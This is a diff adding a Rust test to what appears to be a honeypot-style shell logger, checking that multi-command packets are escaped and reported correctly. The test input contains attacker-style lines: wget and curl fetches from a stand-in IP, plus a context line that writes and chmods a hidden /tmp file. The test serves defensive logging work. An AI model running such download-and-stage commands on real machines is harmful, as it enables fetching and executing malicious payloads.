@@ -239,6 +239,18 @@ fn a_terminal_prompts_and_each_line_is_told() {
     assert_eq!((text.as_str(), status), ("exit\r\nlogout\r\n", Some(0)));
 }
 
+/// What was made safe once must not be made so again with each further line.
+#[test]
+fn several_lines_of_one_packet_are_told_as_they_were_said() {
+    let (mut client, ..) = exec("sh");
+    client.ask(&data(b"echo \xff\x01\nwget http://198.51.100.9/a\nid\ncurl http://198.51.100.9/b\n"));
+    let found = &client.heard.reports.last().unwrap().0.fields;
+    assert_eq!(found["command"], r"echo \u{dcff}\u{1}; wget http://198.51.100.9/a; id; curl http://198.51.100.9/b");
+    assert_eq!(found["download"], "http://198.51.100.9/a; http://198.51.100.9/b");
+    client.ask(&data(&b"uname -a\n".repeat(200)));
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["commands"], "200");
+}
+
 #[test]
 fn what_is_written_to_a_file_is_told() {
     let (mut client, _, status) = exec("cat > /tmp/.x; chmod +x /tmp/.x");
